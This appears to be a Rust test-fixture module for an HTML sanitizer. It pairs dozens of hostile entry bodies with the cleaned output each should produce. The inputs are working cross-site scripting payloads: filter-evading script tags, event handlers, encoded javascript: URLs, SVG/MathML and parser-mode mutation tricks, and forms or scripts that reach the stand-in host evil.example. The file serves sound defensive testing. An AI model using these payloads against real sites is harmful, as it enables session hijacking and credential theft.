//! Hostile entry bodies, each with what is left of it, written as HTML. `steal` stands for whatever an
//! attacker wants to run. Read natively by `content`, and shown by a real browser in `e2e`.

/// What was written, and what is left.
pub(crate) type Attacks = &'static [(&'static str, &'static str)];

/// Every attack there is.
pub(crate) const ALL: [Attacks; 7] = [SCRIPTS, HANDLERS, ADDRESSES, FOREIGN, MODES, REACH, ESCAPES];

/// Elements whose content is a program, in the spellings that filters by pattern overlook.
pub(crate) const SCRIPTS: Attacks = &[
    ("a<script>steal()</script>b", "ab"),
    (
        "a<SCRIPT SRC=//evil.example/x.js></sCrIpT>b",
        "a<script src=\"https://evil.example/\"></script>b",
    ),
    ("a<script\n>steal()</script\n>b", "ab"),
    ("a<script/x>steal()</script/x>b", "ab"),
    // A pattern that removes `<script>` once would make one of this.
    (
        "a<scr<script></script>ipt>steal()</script>b",
        "aipt&gt;steal()b",
    ),
    ("a<<script>steal()//<</script>b", "a&lt;b"),
    ("a<scr\0ipt>steal()</script>b", "ab"),
    // A comment in a script does not hide the end of the script.
    ("a<script><!--</script>b--></script>c", "ab--&gt;c"),
    (
        "a<script type=module>import'//evil.example'</script>b",
        "ab",
    ),
    (
        "a<object data=//evil.example/x.swf><param name=x>b</object>c",
        "abc",
    ),
    ("a<embed src=//evil.example/x.swf>b", "ab"),
    ("a<applet code=x>b</applet>c", "ac"),
];

/// Attributes that run on an event, with and without the reader's help.
pub(crate) const HANDLERS: Attacks = &[
    (
        "<img src=/x onerror=steal()>",
        r#"<img src="https://news.example/x">"#,
    ),
    (
        "<img src=/x/onerror=steal()>",
        r#"<img src="https://news.example/x/onerror=steal()">"#,
    ),
    (
        "<img src='/x'onerror='steal()'>",
        r#"<img src="https://news.example/x">"#,
    ),
    (
        "<img/src=/x\x0conload=steal()>",
        r#"<img src="https://news.example/x">"#,
    ),
    ("<p onmouseover=steal()>a</p>", "<p>a</p>"),
    ("<b autofocus tabindex=0 onfocus=steal()>a</b>", "<b>a</b>"),
    ("<body onload=steal()>a", "a"),
    ("<details open ontoggle=steal()>a</details>", "<div>a</div>"),
    (
        "<div popover id=x onbeforetoggle=steal()>a</div><div onbeforetoggle=steal()>b</div>",
        "<div>b</div>",
    ),
    // The quote seems to end the value; for a browser, it does not begin one.
    (
        r#"<img alt=`" onerror=steal() src=/x>"#,
        r#"<img alt="`&quot;" src="https://news.example/x">"#,
    ),
    (r#"<b title="a>b" onclick="steal()">c</b>"#, "<b>c</b>"),
    (
        r#"<img alt="<img src=x onerror=steal()>" src=/x>"#,
        r#"<img alt="<img src=x onerror=steal()>" src="https://news.example/x">"#,
    ),
];

/// Addresses that are programs once they are decoded, trimmed and unfolded as browsers do.
pub(crate) const ADDRESSES: Attacks = &[
    ("<a href=javascript:steal()>a</a>", "a"),
    ("<a href=' &#14; javascript:steal()'>a</a>", "a"),
    (
        "<a href='java&Tab;script:steal()'>a</a>",
        r#"<a href="https://news.example/live/java&amp;Tab;script:steal()">a</a>"#,
    ),
    ("<a href='java&#9;script&#10;:steal()'>a</a>", "a"),
    ("<a href='&#0000106&#97vascript:steal()'>a</a>", "a"),
    (
        "<a href='&#x6A;&#X61;vascript&colon;steal()'>a</a>",
        r#"<a href="https://news.example/live/javascript&amp;colon;steal()">a</a>"#,
    ),
    (
        "<a href='data:text/html,<script>steal()</script>'>a</a>",
        "a",
    ),
    ("<a href='vbscript:steal()'>a</a>", "a"),
    ("<a href='feed:javascript:steal()'>a</a>", "a"),
    ("<img src=javascript:steal() alt=a>", "a"),
    (
        "<img src=/x srcset='javascript:steal() 2x'>",
        r#"<img src="https://news.example/x">"#,
    ),
    (
        "<img src='data:image/svg+xml,<svg onload=steal()>' alt=a>",
        "a",
    ),
    ("<iframe src=javascript:steal()></iframe>a", "a"),
    (
        "<form action=javascript:steal()><button formaction=javascript:steal()>a</button>b</form>",
        "<div>b</div>",
    ),
    (
        "<base href=javascript:/><a href=x>a</a>",
        r#"<a href="https://news.example/live/x">a</a>"#,
    ),
    (
        "<meta http-equiv=refresh content='0;url=javascript:steal()'>a",
        "a",
    ),
    (
        "<blockquote cite=javascript:steal()>a</blockquote>",
        "<blockquote>a</blockquote>",
    ),
    (
        "<table background=javascript:steal()><td background=javascript:steal()>a</table>",
        "<table><tbody><tr><td>a</td></tr></tbody></table>",
    ),
];

/// Content of another language, where parsers change their rules and sanitizers lost their way.
pub(crate) const FOREIGN: Attacks = &[
    ("a<svg onload=steal()>b</svg>c", "ac"),
    ("a<svg><script>steal()</script></svg>b", "ab"),
    (
        "a<svg><a xlink:href=javascript:steal()><text>b</text></a></svg>c",
        "ac",
    ),
    (
        "a<svg><style><img src=x onerror=steal()></style></svg>b",
        "ab",
    ),
    (
        "a<svg><![CDATA[></svg><img src=x onerror=steal()>]]></svg>b",
        r#"a<img src="https://news.example/live/x">]]&gt;b"#,
    ),
    (
        "a<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=steal()>'></math>b",
        "ab",
    ),
    (
        "a<svg></p><style><a id='</style><img src=x onerror=steal()>'></svg>b",
        "ab",
    ),
    ("a<math href=javascript:steal()>b</math>c", "abc"),
    (
        "a<svg><animate attributeName=href values=javascript:steal() /></svg>b",
        "ab",
    ),
];

/// Text that is markup in one mode of a parser and text in another.
pub(crate) const MODES: Attacks = &[
    (
        "a<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>b",
        r#"a<img src="https://news.example/live/x">'&gt;b"#,
    ),
    (
        "a<textarea><img title='</textarea><script>steal()</script>'></textarea>b",
        "a'&gt;b",
    ),
    ("a<title><style></title><b>c</b></style>b", "a<b>c</b>b"),
    ("a<template><script>steal()</script></template>b", "ab"),
    (
        "a<select><option><style></option></select><img src=x onerror=steal()></style></select>b",
        "ab",
    ),
    ("a<xmp><script>steal()</script></xmp>b", "ab"),
    ("a<!--><script>steal()</script>-->b", "a--&gt;b"),
    ("a<!-- --!><script>steal()</script>-->b", "a--&gt;b"),
    ("a<?xml ><script>steal()</script>?>b", "a?&gt;b"),
    ("a<plaintext><script>steal()</script>b", "a"),
    ("<form><div></form><form>a", "<div><div>a</div></div>"),
    (
        "&lt;script&gt;steal()&lt;/script&gt;",
        "&lt;script&gt;steal()&lt;/script&gt;",
    ),
];

/// Looks, names and places that are the host page's.
pub(crate) const REACH: Attacks = &[
    // Covers the page.
    (
        "<div style='position:fixed;inset:0' class=modal>a</div>",
        "<div>a</div>",
    ),
    ("a<style>:host{position:fixed}</style>b", "ab"),
    ("a<link rel=stylesheet href=//evil.example/x.css>b", "ab"),
    // Becomes `document.body` or a global variable.
    (
        "<img name=body src=/x>",
        r#"<img src="https://news.example/x">"#,
    ),
    (
        "<a id=config name=config href=/x>a</a>",
        r#"<a href="https://news.example/x">a</a>"#,
    ),
    // Takes part in the host's components.
    ("<live-blog src=//evil.example>a</live-blog>", "a"),
    ("<b is=host-button slot=header part=base>a</b>", "<b>a</b>"),
    // Takes what a reader writes.
    (
        "<form action=//evil.example><input name=password><label>a</label></form>",
        "<div>a</div>",
    ),
    // Tells on the reader, or controls the opener.
    (
        "<a href=//b.example ping=//evil.example target=_blank rel=opener>a</a>",
        r#"<a href="https://b.example">a</a>"#,
    ),
    (
        "a<video src=//evil.example/x autoplay><source src=//evil.example/y></video>b",
        r#"a<video><source src="https://evil.example/x"><source src="https://evil.example/y"></video>b"#,
    ),
    (
        "a<iframe srcdoc='<script>steal()</script>' src=//b.example></iframe>b",
        r#"a<oembed url="https://b.example"></oembed>b"#,
    ),
];

/// Trees that reach out of their entry once they are written and parsed again.
pub(crate) const ESCAPES: Attacks = &[
    ("a</div></div></article></body></html>b", "a b"),
    ("<p>a</div></p></section>b", "<p>a</p>b"),
    ("</table></td></tr>a", "a"),
    (
        "<table><td></table></table>a",
        "<table><tbody><tr><td></td></tr></tbody></table>a",
    ),
    ("<a href=/x>a", r#"<a href="https://news.example/x">a</a>"#),
    ("<b><i><u>a", "<b><i><u>a</u></i></b>"),
    (
        "<ul><li><table><tr><td>a",
        "<ul><li><table><tbody><tr><td>a</td></tr></tbody></table></li></ul>",
    ),
    ("a<!--", "a"),
    ("a<b title='", "a"),
];
